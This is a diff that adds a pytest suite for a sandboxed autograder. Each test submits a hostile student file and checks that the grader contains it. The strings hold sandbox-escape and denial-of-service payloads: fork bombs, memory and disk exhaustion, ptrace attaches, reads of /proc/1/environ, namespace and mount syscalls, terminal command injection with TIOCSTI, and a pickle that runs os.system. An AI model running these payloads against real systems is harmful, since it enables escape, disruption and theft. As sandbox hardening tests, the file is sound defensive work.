@@ -1,32 +1,73 @@
 """Submissions that mean harm, each as a student could hand it in, graded by root and by an ordinary user."""
 
+import csv
+import io
 import os
+import platform
+import socket
+import tempfile
+import threading
+from pathlib import Path
 
 import pytest
 
-from tests.hostile.arena import Arena
+from classroom.grading import FILES
+from commands.output import write_csv
+from harness.network.processes import wait_until
+from tests.classroom.mistakes import SOLUTIONS
+from tests.hostile.arena import PROCESSOR_S, SECRET, SEED, Arena
+
+seccomp = pytest.importorskip(
+    "seccomp", reason="python3-seccomp is not installed: there is no grading without"
+)
 
 MODES = ["root", "user"] if os.geteuid() == 0 else ["user"]
+HONEST = {
+    part: (SOLUTIONS / f"{part}.py").read_text() for part in ("demand", "first_fit", "annealing", "loop")
+}
 
 
-@pytest.fixture(scope="module", params=MODES)
-def arena(request, tmp_path_factory):
-    place = tmp_path_factory.mktemp(request.param)
-    for path in (place, *place.parents):
-        if path.stat().st_mode & 0o005 != 0o005:
-            path.chmod(path.stat().st_mode | 0o005)
-    made = Arena(request.param, place)
-    if made.unfit:
-        pytest.skip(made.unfit)
-    yield made
-    made.end()
+@pytest.fixture(scope="module")
+def arenas():
+    """A grader by mode, started when it is first asked for."""
+    with tempfile.TemporaryDirectory(
+        prefix="hedera-hostile-"
+    ) as place:  # pytest's own is shut to other users
+        os.chmod(place, 0o755)
+        made = {}
+        yield place, made
+        for one in made.values():
+            one.end()
+
+
+@pytest.fixture(params=MODES)
+def arena(request, arenas):
+    place, made = arenas
+    if request.param not in made or made[request.param].process.poll() is not None:
+        made[request.param] = Arena(request.param, Path(tempfile.mkdtemp(dir=place)))
+    if made[request.param].unfit:
+        pytest.skip(made[request.param].unfit)
+    return made[request.param]
+
+
+def number(name):
+    """Of a system call, on this machine."""
+    return seccomp.resolve_syscall(seccomp.Arch(), name)
+
+
+def demand(attack, after=HONEST["demand"]):
+    """A demand.py that attacks as soon as it is read, and is right about demands, should it come to that."""
+    return f"{attack}\n{after}"
+
+
+# --- what is not its own: files ---------------------------------------------------------------------------
 
 
 def test_rewriting_the_code_that_answers(arena):
     """It rewrites the code that answers for it, so that whoever comes next has no limits."""
     arena.attempt(
         {
-            "a module": "open('/code/classroom/answering.py', 'a').write('# mine')",
+            "a module": "open('/code/classroom/answering.py', 'a')",
             "its compiled form": "open(__import__('glob').glob('/code/classroom/__pycache__/answering*')[0], 'ab')",
             "a new module": "open('/code/numpy.py', 'w')",
             "its rights": "os.chmod('/code/classroom/answering.py', 0o777)",
@@ -36,3 +77,979 @@ def test_rewriting_the_code_that_answers(arena):
             "the environment": "open(os.__file__, 'a')",
         }
     )
+
+
+def test_writing_to_the_machine(arena):
+    """It looks for any place on any file system that it can write to."""
+    arena.attempt(
+        {
+            "somewhere": """
+for line in open("/proc/self/mounts"):
+    for folder, _, _ in os.walk(line.split()[1]):
+        if folder.startswith(("/tmp", "/dev/shm", "/proc", "/dev/pts")):
+            break
+        if folder.count("/") < 4 and os.access(folder, os.W_OK):
+            sys.exit(open(os.path.join(folder, "mine"), "w"))
+raise OSError
+""",
+            "the kernel's settings": "open('/proc/sys/kernel/core_pattern', 'w')",
+            "sysrq": "open('/proc/sysrq-trigger', 'w')",
+            "a device": "os.mknod('/tmp/disk', 0o60666, os.makedev(8, 0))",
+            "the real root": "os.listdir('/proc/1/root/root') or os.listdir('/proc/1/cwd/root')",
+        }
+    )
+
+
+def test_filling_the_disk(arena):
+    """It writes files without end to /tmp and to /dev/shm, which are the machine's memory."""
+    fill = """
+for n in range(10_000):
+    open(f"{folder}/{n}", "wb").write(bytes(1 << 20))
+"""
+    arena.attempt({f: f"folder = {f!r}{fill}" for f in ("/tmp", "/dev/shm")})
+
+
+def test_a_file_without_end(arena):
+    """It writes one file without end, having asked not to be killed for it."""
+    arena.attempt(
+        {
+            "in /tmp": """
+import signal
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+with open("/tmp/one", "wb") as file:
+    while True:
+        file.write(bytes(1 << 20))
+"""
+        }
+    )
+
+
+def test_files_without_number(arena):
+    """It makes empty files until its time is over: each costs the kernel memory."""
+    attack = "n = 0\nwhile True:\n    open(f'/tmp/{n}', 'w').close()\n    n += 1"
+    grade, _ = arena.grade(demand=attack, budget_s=8.0)
+    assert grade["demand"] == 0.0
+
+
+def test_nested_folders(arena):
+    """It leaves 3,000 nested folders behind, which no recursive clean-up survives."""
+    attack = """
+import os
+for base in ("/code", "/dev/shm", "/tmp"):
+    try:
+        os.chdir(base)
+        for _ in range(3000):
+            os.mkdir("d")
+            os.chdir("d")
+    except OSError:
+        pass
+"""
+    grade, _ = arena.grade(demand=demand(attack))
+    assert grade["demand"] == 1.0
+
+
+def test_reading_other_submissions(arena):
+    """It reads its neighbour's files: by their path, through /proc, and wherever else they could be."""
+    arena.grade("alice", **HONEST)
+    (path,) = arena.place.glob("*/alice/demand.py")
+    arena.attempt(
+        {
+            "by its path": f"open({str(path)!r})",
+            "through the first process": f"open('/proc/1/root' + {str(path)!r})",
+            "the folder": f"os.listdir({str(arena.place)!r})",
+            "anywhere": f"""
+for folder, inside, files in os.walk("/"):
+    inside[:] = [name for name in inside if os.path.join(folder, name) not in ("/proc", "/usr/share")]
+    if {FILES!r}[0] in files or "grades.csv" in files or "solutions" in inside:
+        sys.exit(folder)
+raise OSError
+""".replace("sys.exit(folder)", "break").replace("raise OSError", "else:\n    raise OSError"),
+        }
+    )
+
+
+def test_links_pipes_and_devices_handed_in(arena, tmp_path):
+    """What it hands in are links to others' work, pipes, devices and files of gigabytes."""
+    folder = arena.place / "links" / "mallory"
+    folder.mkdir(parents=True)
+    (folder / "demand.py").symlink_to(SOLUTIONS / "demand.py")
+    os.mkfifo(folder / "first_fit.py")
+    (folder / "annealing.py").mkdir()
+    with (folder / "loop.py").open("wb") as huge:
+        huge.truncate(1 << 40)
+    (folder / "scheduler.py").symlink_to("/dev/zero")
+    grade, checks = arena.grade_folder(folder)
+    assert grade["points"] == 0.0
+    assert {part: check[0]["name"] for part, check in checks.items()} == dict.fromkeys(
+        ("demand", "first_fit", "annealing", "loop", "contract"), "a file of Python"
+    )
+
+
+def test_a_folder_nobody_may_enter(arena):
+    """It takes its folder's rights away, which ends whoever looks into it unprepared."""
+    folder = arena.place / "shut" / "mallory"
+    folder.mkdir(parents=True)
+    (folder / "demand.py").write_text(HONEST["demand"])
+    (folder / "demand.py").chmod(0)
+    grade, _ = arena.grade_folder(folder)
+    assert grade["demand"] == (1.0 if arena.mode == "root" else 0.0)
+
+
+# --- what is not its own: processes -----------------------------------------------------------------------
+
+BOMB = """
+import os, time
+try:
+    while True:
+        if os.fork() == 0:
+            os.setsid()
+            time.sleep(600)
+except OSError:
+    pass
+"""
+
+
+def test_a_fork_bomb(arena):
+    """It forks until it cannot, in sessions of their own, and goes on."""
+    grade, _ = arena.grade(demand=f"{BOMB}\nwhile True: pass", budget_s=6.0)
+    assert grade["points"] == 0.0
+    assert arena.grade(demand=HONEST["demand"])[0]["demand"] == 1.0, "who comes next has its processes"
+
+
+def test_daemons_that_outlive_it(arena):
+    """It answers as it should, and leaves processes behind that belong to nobody."""
+    grade, _ = arena.grade(demand=demand(BOMB))
+    assert grade["demand"] == 1.0
+
+
+def test_killing_whoever_there_is(arena):
+    """It kills every process that it can, those of its own user first."""
+    attack = """
+import os, signal
+for pid in (-1, 1, os.getppid(), *range(2, 40)):
+    try:
+        pid == os.getpid() or os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass
+"""
+    grade, _ = arena.grade(demand=demand(attack))
+    assert grade["demand"] in (0.0, 1.0), "it may well have killed what answers for it"
+
+
+def test_stopping_whoever_there_is(arena):
+    """It stops every process that it can, so that none of them ends."""
+    attack = "import os, signal\nos.kill(1, signal.SIGSTOP)\nos.kill(os.getppid(), signal.SIGSTOP)\n"
+    attack = attack.replace("\nos.kill", "\ntry: os.kill").replace(")\n", ")\nexcept OSError: pass\n")
+    attack += "os.kill(0, signal.SIGSTOP)\n"
+    words = arena.ask(attack + "estimate_demands = 0", call_s=2.0)
+    assert words
+
+
+def test_refusing_to_end(arena):
+    """It ignores every signal, and sleeps in each of its threads, children and exit handlers."""
+    attack = """
+import atexit, os, signal, sys, threading, time
+for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
+    signal.signal(number, signal.SIG_IGN)
+def sleep():
+    while True:
+        try:
+            time.sleep(60)
+        except BaseException:
+            pass
+atexit.register(sleep)
+for _ in range(8):
+    threading.Thread(target=sleep).start()
+for _ in range(4):
+    if os.fork() == 0:
+        os.setsid()
+        sleep()
+def estimate_demands(src, dst, num_hosts):
+    sleep()
+"""
+    assert arena.ask(attack, call_s=2.0) == "it did not answer within 2 s"
+
+
+def test_tracing_its_parents(arena):
+    """It attaches to the processes above it, and reads and writes their memory."""
+    read, peek = number("process_vm_readv"), number("ptrace")
+    arena.attempt(
+        {
+            "attach to the first": f"syscall({peek}, 16, 1, 0, 0)",
+            "attach to its parent": f"syscall({peek}, 16, os.getppid(), 0, 0)",
+            "seize": f"syscall({peek}, 0x4206, os.getppid(), 0, 0)",
+            "be traced": f"syscall({peek}, 0, 0, 0, 0)",
+            "read memory": f"buffer = (ctypes.c_long * 2)(); syscall({read}, os.getpid(), buffer, 0, buffer, 0, 0)",
+            "bubblewrap": """
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    if "bwrap" in os.readlink(f"/proc/{pid}/exe"):
+        os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
+        break
+else:
+    raise OSError
+""",
+            "its environment": f"assert {SECRET!r} not in open('/proc/1/environ').read(); raise OSError",
+            "its own": f"assert {SECRET!r} not in str(os.environ); raise OSError",
+        }
+    )
+
+
+def test_being_somebody_else(arena):
+    """It becomes root, another user or a member of a group, or is given capabilities."""
+    arena.attempt(
+        {
+            "root": "os.setuid(0)",
+            "another": "os.setresuid(1000, 1000, 1000)",
+            "a group": "os.setgid(0)",
+            "groups": "os.setgroups([0])",
+            "capabilities": f"""
+head, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
+syscall({number("capset")}, head, data)
+""",
+            "another root": "os.chroot('/tmp')",
+        }
+    )
+
+
+def test_programs_that_lend_rights(arena):
+    """It runs setuid programs, the machine's and one of its own making, to be root for a moment."""
+    arena.attempt(
+        {
+            name: f"""
+import shutil, subprocess
+tool = shutil.which({name!r})
+if tool is None:
+    raise OSError
+if {name!r} == "id":
+    tool = shutil.copy(tool, "/tmp/mine")
+    os.chmod(tool, 0o6755)
+said = subprocess.run([tool, *{words!r}], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=5)
+if said.returncode or "euid" not in said.stdout and {name!r} == "id":
+    raise OSError
+"""
+            for name, words in {
+                "id": [],
+                "su": ["-c", "true"],
+                "sudo": ["-n", "true"],
+                "mount": ["-t", "tmpfs", "none", "/tmp"],
+                "chage": ["-l", "root"],
+                "newgrp": [],
+            }.items()
+        }
+    )
+
+
+# --- what is not its own: the kernel ----------------------------------------------------------------------
+
+NEWUSER = 0x10000000
+
+
+def test_namespaces_of_its_own(arena):
+    """It makes a user namespace, in which it has every capability; each way there is, and dressed up."""
+    in_child = "if pid == 0:\n    os._exit(0)\nos.waitpid(pid, 0)"
+    unshare, clone = number("unshare"), number("clone")
+    arena.attempt(
+        {
+            "unshare": f"syscall({unshare}, {NEWUSER})",
+            "with mounts": f"syscall({unshare}, {NEWUSER | 0x20000})",
+            "time": f"syscall({unshare}, 0x80)",
+            "clone": f"pid = syscall({clone}, {NEWUSER | 17}, 0, 0, 0, 0)\n{in_child}",
+            "clone with more bits": f"pid = syscall({clone}, {NEWUSER | 17 | 1 << 40}, 0, 0, 0, 0)\n{in_child}",
+            "clone3": f"""
+words = (ctypes.c_uint64 * 11)({NEWUSER}, 0, 0, 0, 17)
+pid = syscall(435, words, 88)
+{in_child}
+""",
+            "a program": """
+import subprocess
+if subprocess.run(["unshare", "--user", "true"], capture_output=True).returncode:
+    raise OSError
+""",
+            "entering one": f"syscall({number('setns')}, os.open('/proc/1/ns/user', os.O_RDONLY), 0)",
+        }
+    )
+
+
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="other machines have no such second door")
+def test_namespaces_through_the_second_door(arena):
+    """It asks the kernel in the manner of 32-bit programs, whose numbers mean other things."""
+    arena.attempt(
+        {
+            "int 80": f"""
+import mmap
+code = bytes([0x53, 0xB8]) + (310).to_bytes(4, "little") + b"\\xbb" + ({NEWUSER}).to_bytes(4, "little")
+page = mmap.mmap(-1, 4096, prot=7)
+page.write(code + bytes([0xCD, 0x80, 0x5B, 0xC3]))
+if ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))() < 0:
+    raise OSError
+""",
+            "x32": f"syscall({0x40000000 | number('unshare')}, {NEWUSER})",
+        }
+    )
+
+
+def test_mounts_of_its_own(arena):
+    """It mounts 20 GiB of memory, or makes the read-only writable, by the old calls and the new."""
+    arena.attempt(
+        {
+            "a tmpfs": "libc.mount(b'none', b'/tmp', b'tmpfs', 0, b'size=20g') == 0 or syscall(-1)",
+            "writable": "libc.mount(b'', b'/code', b'', 0x1020, b'') == 0 or syscall(-1)",
+            "in a namespace": f"""
+syscall({number("unshare")}, {NEWUSER | 0x20000})
+libc.mount(b'none', b'/tmp', b'tmpfs', 0, b'size=20g') == 0 or syscall(-1)
+""",
+            "unmounted": "libc.umount2(b'/tmp', 2) == 0 or syscall(-1)",
+            "fsopen": "syscall(430, b'tmpfs', 0)",
+            "open_tree": "syscall(428, -100, b'/', 1)",
+            "mount_setattr": "syscall(442, -100, b'/code', 0, (ctypes.c_uint64 * 4)(0, 1), 32)",
+            "pivot_root": f"syscall({number('pivot_root')}, b'/tmp', b'/tmp')",
+        }
+    )
+
+
+def test_words_in_a_keyring(arena):
+    """It leaves its answers in its user's keyring, where the next submission finds them."""
+    add, look = number("add_key"), number("keyctl")
+    arena.attempt(
+        {
+            f"keyring {ring}": f"syscall({add}, b'user', b'hedera:answers', b'42', 2, {ring})"
+            for ring in (-1, -2, -3, -4, -5)
+        }
+    )
+    arena.attempt(
+        {
+            "found": f"syscall({look}, 10, -4, b'user', b'hedera:answers', 0)",
+            "asked for": f"syscall({number('request_key')}, b'user', b'hedera:answers', 0, -4)",
+            "joined": f"syscall({look}, 1, b'hedera')",
+        }
+    )
+
+
+def test_what_outlives_processes_in_the_kernel(arena):
+    """It puts memory where no limit of a process counts it: shared segments, queues, anonymous files."""
+    arena.attempt(
+        {
+            "shared memory": f"syscall({number('shmget')}, 0x4EDE, {1 << 30}, 0o1666)",
+            "messages": f"syscall({number('msgget')}, 0x4EDE, 0o1666)",
+            "semaphores": f"syscall({number('semget')}, 0x4EDE, 1, 0o1666)",
+            "a queue": f"syscall({number('mq_open')}, b'hedera', 0o102, 0o666, 0)",
+            "an anonymous file": f"syscall({number('memfd_create')}, b'hedera', 0)",
+            "a secret one": "syscall(447, 0)",
+        }
+    )
+
+
+def test_the_kernel_s_weak_spots(arena):
+    """It knocks at the doors behind which most holes were found."""
+    struct = "buffer = (ctypes.c_uint64 * 32)()\n"
+    arena.attempt(
+        {
+            "bpf": struct + f"syscall({number('bpf')}, 5, buffer, 120)",
+            "perf": struct
+            + f"buffer[0] = 1 | 128 << 32\nsyscall({number('perf_event_open')}, buffer, 0, -1, -1, 0)",
+            "io_uring": struct + "syscall(425, 4, buffer)",
+            "userfaultfd": f"syscall({number('userfaultfd')}, 1)",
+            "asynchronous reads": struct + f"syscall({number('io_setup')}, 60000, buffer)",
+            "watches": f"syscall({number('inotify_init1')}, 0)",
+            "fanotify": f"syscall({number('fanotify_init')}, 0x200, 0)",
+            "the kernel's log": struct + f"syscall({number('syslog')}, 3, buffer, 100)",
+            "where memory lies": struct + f"syscall({number('get_mempolicy')}, buffer, 0, 0, 0, 0)",
+            "without randomness": f"syscall({number('personality')}, 0x40000)",
+            "comparing": f"syscall({number('kcmp')}, os.getpid(), os.getpid(), 0, 0, 0)",
+            "handles": struct
+            + f"buffer[0] = 64\nsyscall({number('name_to_handle_at')}, -100, b'/', buffer, (ctypes.c_int * 2)(), 0)",
+            "a call that is not there yet": "syscall(600)",
+        }
+    )
+
+
+def test_typing_into_the_grader_s_terminal(arena):
+    """It types commands into the terminal that `hedera grade` was started from."""
+    arena.attempt(
+        {
+            "its terminal": "os.open('/dev/tty', os.O_RDWR)",
+            "whatever it has open": """
+import fcntl
+for descriptor in range(3):
+    fcntl.ioctl(descriptor, 0x5412, b"x")
+""",
+            "with bits nobody reads": f"""
+import fcntl
+_, mine = os.openpty()
+os.setsid()
+fcntl.ioctl(mine, 0x540E, 0)
+syscall({number("ioctl")}, mine, 0x5412 | 1 << 32, b"x")
+""",
+            "pasting": """
+import fcntl
+_, mine = os.openpty()
+os.setsid()
+fcntl.ioctl(mine, 0x540E, 0)
+fcntl.ioctl(mine, 0x541C, bytes([2, 0, 0, 0]))
+""",
+        }
+    )
+
+
+def test_the_network(arena):
+    """It calls home: over TCP, UDP, the machine's own sockets, and what knows no network namespace."""
+    heard = []
+
+    def listen(server):
+        try:
+            server.accept()
+            heard.append(server)
+        except OSError:
+            pass
+
+    with socket.socket() as tcp, socket.socket(socket.AF_UNIX) as named:
+        tcp.bind(("127.0.0.1", 0))
+        named.bind(f"\0hedera-hostile-{os.getpid()}")
+        for server in (tcp, named):
+            server.listen()
+            server.settimeout(8)
+        waiting = [threading.Thread(target=listen, args=(server,)) for server in (tcp, named)]
+        for one in waiting:
+            one.start()
+        head = "import socket"
+        port, name = tcp.getsockname()[1], named.getsockname()
+        arena.attempt(
+            {
+                "tcp": f"socket.create_connection(('127.0.0.1', {port}), 2)",
+                "udp": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))",
+                "ipv6": "socket.create_connection(('::1', 9), 2)",
+                "an abstract name": f"socket.socket(socket.AF_UNIX).connect({name!r})",
+                "the host of a virtual machine": "socket.socket(40)",
+                "netlink": "socket.socket(socket.AF_NETLINK)",
+                "packets": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
+                "with bits nobody reads": f"syscall({number('socket')}, 40 | 1 << 32, 1, 0)",
+                "the kernel's ciphers": "socket.socket(socket.AF_ALG)",
+            },
+            head,
+        )
+        for server in (tcp, named):
+            server.shutdown(socket.SHUT_RDWR)
+        for one in waiting:
+            one.join()
+    assert heard == []
+
+
+# --- more than its share ----------------------------------------------------------------------------------
+
+
+def test_raising_its_limits(arena):
+    """It raises its limits, and puts itself before everybody else."""
+    tries = {
+        name: f"import resource; resource.prlimit(0, resource.RLIMIT_{name}, (-1, -1))"
+        for name in ("AS", "CPU", "FSIZE", "NOFILE", "NPROC", "MEMLOCK", "CORE")
+    }
+    if arena.mode == "root" and has_capability(24):  # CAP_SYS_RESOURCE; else whoever has set it may lower it
+        tries["last when memory is out"] = "os.write(os.open('/proc/self/oom_score_adj', os.O_WRONLY), b'0')"
+    arena.attempt(
+        tries
+        | {
+            "niceness": "os.nice(-5)",
+            "real time": "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))",
+            "another group": "open('/sys/fs/cgroup/cgroup.procs', 'w')",
+        }
+    )
+
+
+def has_capability(which):
+    with open("/proc/self/status") as lines:
+        (mine,) = (line.split()[1] for line in lines if line.startswith("CapEff"))
+    return int(mine, 16) >> which & 1
+
+
+def test_memory(arena):
+    """It takes memory until there is none."""
+    grade, _ = arena.grade(demand="x = []\nwhile True: x.append(bytearray(1 << 26))", budget_s=15.0)
+    assert grade["points"] == 0.0
+    assert "MemoryError" in grade["remarks"] or "of memory" in grade["remarks"]
+
+
+def test_memory_of_many(arena):
+    """It takes memory in many processes, each of them below its limit."""
+    if arena.mode == "user":
+        pytest.skip("without root there are no groups: the machine's memory is the limit (instructor.md)")
+    attack = """
+import os, time
+for _ in range(40):
+    if os.fork() == 0:
+        taken = []
+        while True:
+            taken.append(bytearray(os.urandom(1 << 20) * 32))
+time.sleep(60)
+"""
+    before = available()
+    lowest = [before]
+    done = threading.Event()
+
+    def watch():
+        while not done.wait(0.05):
+            lowest.append(available())
+
+    watching = threading.Thread(target=watch)
+    watching.start()
+    grade, _ = arena.grade(demand=attack, budget_s=8.0)
+    done.set()
+    watching.join()
+    assert grade["points"] == 0.0
+    assert before - min(lowest) < 5 << 30, "3 GiB, and what others did meanwhile"
+
+
+def available():
+    with open("/proc/meminfo") as lines:
+        return next(int(line.split()[1]) << 10 for line in lines if line.startswith("MemAvailable"))
+
+
+def test_descriptors(arena):
+    """It opens files, pipes and sockets until the machine has none left."""
+    arena.attempt(
+        {
+            "files": "kept = [open('/dev/null') for _ in range(2000)]",
+            "sockets": "import socket; kept = [socket.socketpair() for _ in range(2000)]",
+            "pipes": "kept = [os.pipe() for _ in range(2000)]",
+        }
+    )
+
+
+def test_threads(arena):
+    """It starts threads without end."""
+    attack = """
+import threading, time
+try:
+    while True:
+        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
+except RuntimeError:
+    alive = threading.active_count()
+assert alive <= 64, f"BROKE OUT: {alive} threads"
+"""
+    grade, _ = arena.grade(demand=demand(attack))
+    assert grade["demand"] == 1.0, grade["remarks"]
+
+
+@pytest.mark.parametrize(
+    "how", ["time.sleep(600)", "while True: pass", "os.fork()\nwhile True: pass", "os.kill(os.getpid(), 19)"]
+)
+def test_a_start_up_without_end(arena, how):
+    """Its file does not end when it is read, and the next time, and the next."""
+    grade, _ = arena.grade(demand=f"import os, time\n{how}", budget_s=5.0)
+    assert grade["points"] == 0.0
+    assert arena.took_s < 5 + 10, "its budget, and what a busy machine needs to tell"
+
+
+def test_a_slow_start_up_for_every_question(arena):
+    """It starts slowly, ends as soon as it is asked, and so is started for every question."""
+    attack = "import os, time\ntime.sleep(1.5)\ndef estimate_demands(src, dst, num_hosts): os._exit(0)"
+    grade, _ = arena.grade(demand=attack, budget_s=5.0)
+    assert grade["points"] == 0.0
+    assert arena.took_s < 5 + 10
+
+
+def test_slow_answers(arena):
+    """It answers rightly, each time just before nobody waits any longer."""
+    slow = HONEST["demand"].replace(
+        "    demand = np.zeros(len(src))\n", "    demand = np.zeros(len(src)); import time; time.sleep(1)\n"
+    )
+    assert slow != HONEST["demand"]
+    grade, checks = arena.grade(demand=slow, budget_s=5.0)
+    assert grade["demand"] < 1
+    assert arena.took_s < 5 + 10
+    assert any(check["words"] == "its 5 s in all are over" for check in checks["demand"])
+
+
+def test_output_without_end(arena):
+    """It prints without end, to whatever is open."""
+    attack = """
+import os, threading
+def shout():
+    while True:
+        os.write(1, b"x" * 65536)
+        os.write(2, b"x" * 65536)
+threading.Thread(target=shout, daemon=True).start()
+"""
+    assert arena.grade(demand=demand(attack))[0]["demand"] is not None
+
+
+# --- answers that are none --------------------------------------------------------------------------------
+
+PIPE = """
+import os, stat
+def pipe(number):
+    try:
+        return stat.S_ISFIFO(os.fstat(number).st_mode)
+    except OSError:
+        return False
+answers = max(filter(pipe, range(3, 20)))
+"""
+
+
+@pytest.mark.parametrize(
+    "rubbish",
+    {
+        "no length": "b'\\xff' * 4",
+        "no message": "(5).to_bytes(4, 'big') + b'hello'",
+        "more than there is": "b'\\x7f\\xff\\xff\\xff'",
+        "a megabyte, byte by byte": "(1 << 20).to_bytes(4, 'big')",
+        "nested": "(1 << 19).to_bytes(4, 'big') + b'\\x81' * (1 << 19)",
+        "lists in lists": "(1 << 19).to_bytes(4, 'big') + b'\\x91' * (1 << 19)",
+        "many words": "(1 << 20).to_bytes(4, 'big') + b'\\x81\\xa7touched\\xdc\\xff\\xff' + b'\\xa0' * (1 << 20)",
+        "no text": "(9).to_bytes(4, 'big') + b'\\x81\\xa3odd\\xa3\\xff\\xfe\\xfd'",
+    }.items(),
+    ids=lambda item: item[0],
+)
+def test_rubbish_on_the_line(arena, rubbish):
+    """It writes to the line to the grader itself."""
+    attack = f"{PIPE}\ndef estimate_demands(src, dst, num_hosts):\n    os.write(answers, {rubbish[1]})\n"
+    drip = "    import time\n    while True:\n        os.write(answers, b'x')\n        time.sleep(0.001)\n"
+    words = arena.ask(attack + drip, call_s=3.0)
+    assert "its process answers with" in words or words == "it did not answer within 3 s"
+
+
+def forged(**fields):
+    """A loop whose answers are replaced before they are sent."""
+    told = "; ".join(f"fields[{name!r}] = {value}" for name, value in fields.items())
+    return f"""
+import numpy as np, msgspec
+from classroom import protocol
+from classroom.protocol import Array, pack
+was = protocol.encode
+def encode(answer):
+    fields = msgspec.structs.asdict(answer)
+    if fields["numbers"]:
+        {told}
+    return was(fields)
+protocol.encode = encode
+"""
+
+
+EMPTY = "pack(np.zeros(0, np.int64))"
+FORGED = {
+    "asked infinitely often": forged(numbers="{'asked': float('inf')}"),
+    "asked NaN times": forged(numbers="{'asked': float('nan')}"),
+    "asked 10^300 times": forged(numbers="{'asked': 1e300}"),
+    "not asked": forged(numbers="{}"),
+    "nothing changed": forged(arrays="{}"),
+    "changes without cores": forged(arrays="{**fields['arrays'], 'changed': pack(np.arange(9))}"),
+    "changes as fractions": forged(
+        arrays="{**fields['arrays'], 'changed': pack(np.ones(1)), 'to': pack(np.ones(1))}"
+    ),
+    "cores beyond any": forged(
+        arrays="{**fields['arrays'], 'changed': pack(np.arange(1)), 'to': pack(np.array([2**62]))}"
+    ),
+    "demands of NaN": forged(
+        arrays="{**fields['arrays'], 'placed': pack(np.arange(1)), 'demand': pack(np.full(1, np.nan))}"
+    ),
+    "a matrix": forged(arrays="{**fields['arrays'], 'changed': pack(np.zeros((2, 2), int))}"),
+    "a scalar": forged(arrays="{**fields['arrays'], 'changed': pack(np.array(1))}"),
+    "objects": forged(arrays="{'changed': Array('O', (1,), b'12345678')}"),
+    "dates": forged(arrays="{'changed': Array('M8[D]', (1,), b'12345678')}"),
+    "a type that is no type": forged(arrays="{'changed': Array('f8,' * 1000, (1,), b'12345678')}"),
+    "negative lengths": forged(arrays="{'changed': Array('<i8', (-1, -1), b'12345678')}"),
+    "lengths beyond numbers": forged(arrays="{'changed': Array('<i8', (0, 2**63), b'')}"),
+    "a thousand dimensions": forged(arrays="{'changed': Array('<i8', (1,) * 1000, b'12345678')}"),
+    "inputs it was not given": forged(touched="('\\x1b[2J' * 1000,)"),
+    "text for arrays": forged(arrays="'none'"),
+    "an error of a megabyte": forged(error="'x' * 900_000", line="2**63"),
+}
+
+
+@pytest.mark.parametrize("how", FORGED)
+def test_a_forged_answer(arena, how):
+    """It forges what its process says of a period of its control loop, and ends the class's grading by it."""
+    grade, _ = arena.grade(loop=FORGED[how] + HONEST["loop"])
+    assert grade["loop"] < 1
+    assert grade["remarks"].startswith("loop: ")
+    assert "ended the check" not in grade["remarks"], "it was found out where it came in"
+    assert len(grade["remarks"]) < 600
+
+
+def test_an_answer_that_nobody_thought_of(arena, monkeypatch):
+    """It finds an answer that breaks the check itself: its own points go, and the grader is told why."""
+    from classroom import grading
+
+    def broken(*_):
+        raise ZeroDivisionError("\x1b[2J")
+
+    monkeypatch.setattr(grading, "_milestone", broken)
+    course = object.__new__(grading.Class)
+    object.__setattr__(course, "budget_s", 1.0)
+    (arena.place / "unthought" / "m").mkdir(parents=True)
+    (arena.place / "unthought" / "m" / "demand.py").write_text(HONEST["demand"])
+    grade, _ = grading.grade(arena.place / "unthought" / "m", course)
+    assert (grade.points, grade.remarks) == (
+        0.0,
+        "demand: what it answers ended the check: ZeroDivisionError: \\x1b[2J",
+    )
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "float('inf')", "[float('nan')] * len(src)", "np.zeros((len(src),) * 1, dtype='O')", "np.zeros(1 << 27)",
+        "b'x' * (1 << 24)", "np.full(len(src), 1e308)", "np.zeros((0, 5))", "memoryview(b'abc')", "lambda: 0",
+        "np.full(len(src), -1e-300)", "np.zeros(len(src), dtype='S200')", "np.ma.masked_all(len(src))",
+        "type('\\x1b[31m' * 9999, (), {})()", "np.array(['\\x07'] * len(src))", "range(1 << 60)",
+    ],
+)  # fmt: skip
+def test_a_strange_demand(arena, value):
+    """Its demands are infinite, no numbers, too many, objects, or have names that a terminal obeys."""
+    attack = f"import numpy as np\ndef estimate_demands(src, dst, num_hosts):\n    return {value}"
+    grade, _ = arena.grade(demand=attack)
+    assert grade["demand"] <= 0.4
+    assert grade["remarks"].isprintable()
+
+
+def test_pickles(arena):
+    """It answers with objects that run code where they are unpickled."""
+    attack = """
+import numpy as np, os, pickle
+class Evil:
+    def __reduce__(self):
+        return os.system, ("touch /tmp/hedera-hostile-pickle",)
+def estimate_demands(src, dst, num_hosts):
+    return np.array([Evil()] * len(src), dtype=object)
+"""
+    assert arena.grade(demand=attack)[0]["demand"] == 0.0
+    assert not os.path.exists("/tmp/hedera-hostile-pickle")
+
+
+@pytest.mark.parametrize(
+    "source",
+    {
+        "null bytes": "x = 1\0\n" * 10,
+        "parentheses": "(" * 100_000,
+        "signs": "-" * 100_000 + "1",
+        "attributes": "x" + ".a" * 100_000,
+        "a long line": "x = '" + "a" * 250_000 + "'",
+        "an encoding": "# -*- coding: unicode_escape -*-\n'\\u000aimport os'",
+        "lambdas": "lambda: " * 20_000 + "0",
+        "a crash": "import ctypes\nctypes.string_at(0)",
+        "a deep stack": "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
+        "a name that is long": "import hedera." + "a" * 200_000,
+    }.items(),
+    ids=lambda item: item[0],
+)
+def test_a_file_that_breaks_parsers(arena, source):
+    """Its file is one that Python's parser, compiler or interpreter dies of."""
+    grade, _ = arena.grade(demand=source[1])
+    assert grade["points"] == 0.0
+    assert grade["remarks"].isprintable()
+
+
+# --- words ------------------------------------------------------------------------------------------------
+
+OBEYED = "\x1b]0;owned\x07\x1b[2J\r\n\u202e\x9b31m"
+
